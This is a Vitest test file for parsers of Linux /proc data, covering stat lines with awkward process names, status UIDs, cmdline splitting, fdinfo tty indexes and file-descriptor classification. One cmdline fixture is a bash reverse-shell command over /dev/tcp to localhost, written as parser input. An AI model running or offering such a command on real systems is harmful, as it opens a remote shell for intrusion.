import { describe, expect, it } from 'vitest';
import { classifyFdTarget, parseCmdline, parseProcStat, parseStatusUid, parseTtyIndex } from './parse-proc.js';

// Captured from this machine's /proc (cat's own stat), with comm variants that break naive splitting.
const CAT_STAT = '11535 (cat) R 11524 11524 9202 0 -1 4194304 101 0 0 0 0 0 0 0 20 0 1 0 59089 3133440 385 18446744073709551615 94908942082048 94908942101929 140721583911472 0 0 0 0 0 0 0 0 0 17 0 0 0 0 0 0 94908942117936 94908942119552 94909626011648 140721583917794 140721583917814 140721583917814 140721583919083 0';

describe('parseProcStat', () => {
  it('reads pid, comm, ppid, group, session, cpu ticks and start time', () => {
    expect(parseProcStat(CAT_STAT)).toEqual({ pid: 11535, comm: 'cat', state: 'R', ppid: 11524, pgrp: 11524, session: 9202, cpuTicks: 0, startTime: 59089 });
    // utime (field 14) = 7, stime (field 15) = 5
    const busy = CAT_STAT.replace('101 0 0 0 0 0 0 0 20', '101 0 0 0 7 5 0 0 20');
    expect(parseProcStat(busy)?.cpuTicks).toBe(12);
  });

  it('survives spaces and parentheses in comm', () => {
    expect(parseProcStat(CAT_STAT.replace('(cat)', '(tmux: server)'))?.comm).toBe('tmux: server');
    expect(parseProcStat(CAT_STAT.replace('(cat)', '(a) b) (c)'))).toMatchObject({ comm: 'a) b) (c', ppid: 11524, startTime: 59089 });
  });

  it('returns null on truncated text', () => {
    expect(parseProcStat('123 (x')).toBeNull();
    expect(parseProcStat('')).toBeNull();
  });
});

describe('small /proc parsers', () => {
  it('reads the real uid from status', () => {
    expect(parseStatusUid('Name:\tbash\nUmask:\t0022\nState:\tS (sleeping)\nUid:\t1000\t0\t0\t0\nGid:\t1000\t1000\t1000\t1000\n')).toBe(1000);
    expect(parseStatusUid('Name:\tx\n')).toBeNull();
  });

  it('splits cmdline on NUL', () => {
    expect(parseCmdline('bash\0-c\0bash -i >& /dev/tcp/127.0.0.1/9 0>&1\0')).toEqual(['bash', '-c', 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1']);
    expect(parseCmdline('')).toEqual([]);
    expect(parseCmdline('nginx: worker process')).toEqual(['nginx: worker process']);
  });

  it('reads tty-index from a ptmx fdinfo (captured)', () => {
    expect(parseTtyIndex('pos:\t0\nflags:\t02100002\nmnt_id:\t24\nino:\t90\ntty-index:\t7\n')).toBe(7);
    expect(parseTtyIndex('pos:\t0\nflags:\t02\n')).toBeNull();
  });

  it('classifies fd targets', () => {
    expect(classifyFdTarget(0, 'socket:[123]')).toEqual({ fd: 0, target: 'socket:[123]', kind: 'socket', inode: 123 });
    expect(classifyFdTarget(1, 'pipe:[456]')).toMatchObject({ kind: 'pipe', inode: 456 });
    expect(classifyFdTarget(2, '/dev/pts/3')).toMatchObject({ kind: 'pts', ptsIndex: 3 });
    expect(classifyFdTarget(5, '/dev/ptmx').kind).toBe('ptmx');
    expect(classifyFdTarget(3, 'anon_inode:[eventpoll]').kind).toBe('anon');
    expect(classifyFdTarget(0, '/dev/null').kind).toBe('devnull');
    expect(classifyFdTarget(0, '/dev/tty1').kind).toBe('tty');
    expect(classifyFdTarget(4, '/tmp/f (deleted)').kind).toBe('file');
  });
});
